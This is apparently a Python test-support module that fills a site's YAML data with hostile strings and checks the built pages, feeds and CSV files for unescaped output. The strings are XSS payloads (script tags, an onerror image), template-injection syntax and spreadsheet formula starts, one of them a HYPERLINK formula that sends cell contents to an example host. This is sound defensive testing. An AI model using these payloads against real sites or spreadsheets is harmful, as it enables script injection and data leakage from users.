"""A copy of a data folder whose every text field holds markup, quotes and template syntax.

The walker does not list the fields: it tries hostile text in every string of every data file, keeps it where
the file's own model still accepts the file, and then gives back the original wherever the checks across files
or the scoring refuse it (a stated level names a level; a file's id is its name). So a field added to a model
later is tried without anyone remembering it, and what is left holding hostile text is every field a clerk
could type free text into.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from fnmatch import fnmatch
from html.parser import HTMLParser
from pathlib import Path

import yaml
from pydantic import BaseModel, ValidationError

from itasite.data.dataset import LOOKUP_FILES
from itasite.data.disclosure import Register
from itasite.data.models import Measure, Results
from itasite.data.national import NationalFile
from itasite.data.oit import OitFile
from itasite.data.problems import DataError
from itasite.data.report import Report
from itasite.data.yamlfile import FieldPath, read_yaml
from itasite.pipeline import prepare
from itasite.site.spreadsheet import FORMULA_START, NUMBER
from support.site import built_text

# Each data file kind the build reads, by its path under data/, and the model it must satisfy alone
MODELS: dict[str, type[BaseModel]] = {
    **LOOKUP_FILES,
    "results/*.yml": Results,
    "reports/*.yml": Report,
    "measures/*/*.yml": Measure,
    "national.yml": NationalFile,
    "oit.yml": OitFile,
    "disclosure/*.yml": Register,
}
# What every text is replaced by, `{n}` numbering the field so a leak names it: an attribute broken by either
# quote, an element and an event handler, an entity that must stay as written, Jinja's syntax, and Thai.
HOSTILE = "\"'<script>alert({n})</script><img src=x onerror=alert({n})>&amp;{{{{7*7}}}}{{% raw %}} ทดสอบ"
# What four fields in five start with instead: what a spreadsheet would run as a formula
FORMULAS = ("", '=HYPERLINK("https://x.example/?"&A1,"คลิก")', "+1+", "-1+", "@SUM(1)")
NUMBERED = re.compile(r"alert\((\d+)\)")
MAX_ROUNDS = 20  # rounds of giving back texts the checks across files refuse; the seed needs two or three


def hostile(n: int) -> str:
    """The hostile text of field number `n`: every fifth starts with a quote, the others as a formula."""
    return FORMULAS[n % len(FORMULAS)] + HOSTILE.format(n=n)


@dataclass
class HostileData:
    """Which field of which file holds which hostile text, and which strings the walker tried and gave back."""

    fields: dict[int, tuple[str, FieldPath]] = field(default_factory=dict)  # n -> (file under data/, field path)
    refused: list[tuple[str, FieldPath]] = field(default_factory=list)

    def kinds(self) -> dict[str, int]:
        """How many fields of each file kind (a MODELS pattern) hold hostile text."""
        counts = dict.fromkeys(MODELS, 0)
        for file, _ in self.fields.values():
            counts[kind_of(file) or file] += 1
        return counts

    def named(self, text: str) -> list[tuple[str, FieldPath]]:
        """The fields whose hostile text `text` carries, by the numbers of its alert(n)."""
        return [self.fields[int(n)] for n in NUMBERED.findall(text) if int(n) in self.fields]


def kind_of(file: str) -> str | None:
    """The MODELS pattern a file under data/ matches, None for a file the build reads as no record."""
    return next(
        (pattern for pattern in MODELS if fnmatch(file, pattern) and file.count("/") == pattern.count("/")), None
    )


def _strings(value: object, path: FieldPath = ()) -> Iterator[FieldPath]:
    """The path of every string inside a parsed YAML document, in document order."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from _strings(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _strings(item, (*path, index))


def _get(doc: object, path: FieldPath) -> object:
    """The value at `path`."""
    for step in path:
        doc = doc[step]  # type: ignore[index]
    return doc


def _set(doc: object, path: FieldPath, value: object) -> None:
    """Put `value` at `path`."""
    _get(doc, path[:-1])[path[-1]] = value  # type: ignore[index]


def _write(path: Path, doc: object) -> None:
    """Write a data file back as the project writes YAML."""
    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False, width=10_000), encoding="utf-8")


def make_hostile_file(
    doc: object, model: type[BaseModel], file: str, found: HostileData
) -> dict[tuple[str, FieldPath], str]:
    """Hostile text in every string of the parsed file `doc` that `model` still accepts it in, noted in `found`;
    return the original text of each."""
    originals = {}
    for where in list(_strings(doc)):
        original = _get(doc, where)
        n = len(found.fields) + len(found.refused) + 1
        _set(doc, where, hostile(n))
        try:
            model.model_validate(doc)
        except ValidationError:
            _set(doc, where, original)
            found.refused.append((file, where))
            continue
        found.fields[n] = (file, where)
        originals[(file, where)] = str(original)
    return originals


def make_hostile(data: Path) -> HostileData:
    """Put hostile text in every text field of the data folder `data` (a copy: it is rewritten), keeping the
    folder valid; return where it went."""
    found = HostileData()
    docs: dict[str, object] = {}
    originals: dict[tuple[str, FieldPath], str] = {}
    for path in sorted(data.rglob("*.yml")):
        file = path.relative_to(data).as_posix()
        model = MODELS.get(kind_of(file) or "")
        if model is None:
            continue  # not a record the build reads (the glossary of the translation checks)
        doc = yaml.safe_load(path.read_text(encoding="utf-8"))
        originals |= make_hostile_file(doc, model, file, found)
        docs[file] = doc
        _write(path, doc)
    for _ in range(MAX_ROUNDS):
        try:
            prepare(data, data.parent)
            return found
        except DataError as error:
            problems, report = error.problems, error.report("en")
        given_back = 0
        for problem in problems:
            file = problem.file.removeprefix(f"{data.name}/")
            located = read_yaml(data / file).locations
            for n, (hostile_file, where) in list(found.fields.items()):
                if hostile_file == file and located.get(where) == (problem.line, problem.column):
                    _set(docs[file], where, originals[(file, where)])
                    _write(data / file, docs[file])
                    found.refused.append(found.fields.pop(n))
                    given_back += 1
        if not given_back:
            raise AssertionError("hostile data the walker cannot make valid:\n" + report)
    raise AssertionError(f"hostile data still refused after {MAX_ROUNDS} rounds")


# Entities in text already read back from HTML, or in a file that is not HTML: a value escaped twice
ESCAPED_TWICE = re.compile(r"&lt;|&gt;|&#\d+;|&amp;amp;|&quot;")
BROKEN_OUT = ("<script>alert(", "<img src=x")  # hostile markup read as markup
TEXT_FILES = (".html", ".xml", ".svg", ".json", ".jsonld", ".csv", ".js", ".txt", ".css")


class _Elements(HTMLParser):
    """What hostile text may not have become in a page, a feed or a sitemap: elements, attributes, text."""

    def __init__(self) -> None:
        """Start with nothing found."""
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.texts: list[str] = []
        self.meta: dict[str, str] = {}
        self._tag = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element or attribute that data made, and an attribute's value escaped twice."""
        self._tag = tag
        for name, value in attrs:
            if name.startswith("on") or not re.fullmatch(r"[a-z][a-z0-9:_.-]*", name):
                self.found.append(f"attribute {name!r} on <{tag}>")
            if tag == "img" and name == "src" and value == "x":
                self.found.append("an <img src=x>")
            if value and ESCAPED_TWICE.search(value):
                self.found.append(f"escaped twice in {tag}[{name}]: {value[:120]!r}")
        if tag == "meta":
            named = dict(attrs)
            self.meta[str(named.get("name") or named.get("property"))] = str(named.get("content"))

    def handle_data(self, data: str) -> None:
        """Text: a script from data, or text escaped twice."""
        if self._tag == "script":
            if NUMBERED.fullmatch(data.strip()) or any(markup in data for markup in BROKEN_OUT):
                self.found.append(f"a script from data: {data[:120]!r}")
        elif self._tag != "style":
            self.texts.append(data)
            if ESCAPED_TWICE.search(data):
                self.found.append(f"escaped twice in the text: {data.strip()[:120]!r}")


def read_markup(text: str) -> _Elements:
    """A page, feed or sitemap read as a browser would: what hostile text became in it."""
    parser = _Elements()
    parser.feed(text)
    parser.close()
    return parser


def csv_problems(text: str) -> list[str]:
    """Cells a spreadsheet would run as formulas, and text escaped as if it were HTML."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell):
                found.append(f"a cell a spreadsheet runs: {cell[:80]!r}")
            if ESCAPED_TWICE.search(cell):
                found.append(f"a cell escaped as HTML: {cell[:80]!r}")
    return found


def file_problems(path: Path, site: Path) -> list[str]:
    """What is wrong with one built file of a site built from hostile data (nothing, for a binary file)."""
    if path.suffix not in TEXT_FILES:
        return []
    text = built_text(path).removeprefix("\ufeff")
    if "search" in path.relative_to(site).parts:  # Material shows the index's texts as HTML: escaped once
        return [f"markup from data in the search index: {m!r}" for m in BROKEN_OUT if m in text] + [
            "escaped twice in the search index" for _ in re.finditer(r"&amp;lt;", text)
        ][:1]
    if path.suffix in (".html", ".xml", ".svg"):
        return read_markup(text).found
    if path.suffix == ".csv":
        return csv_problems(text)
    if path.suffix in (".js", ".css"):  # no data reaches the scripts and stylesheets
        return [f"data in a script or stylesheet: {m[0]}" for m in NUMBERED.finditer(text)][:1]
    return [f"escaped as HTML in a plain file: {m[0]!r}" for m in ESCAPED_TWICE.finditer(text)][:3]
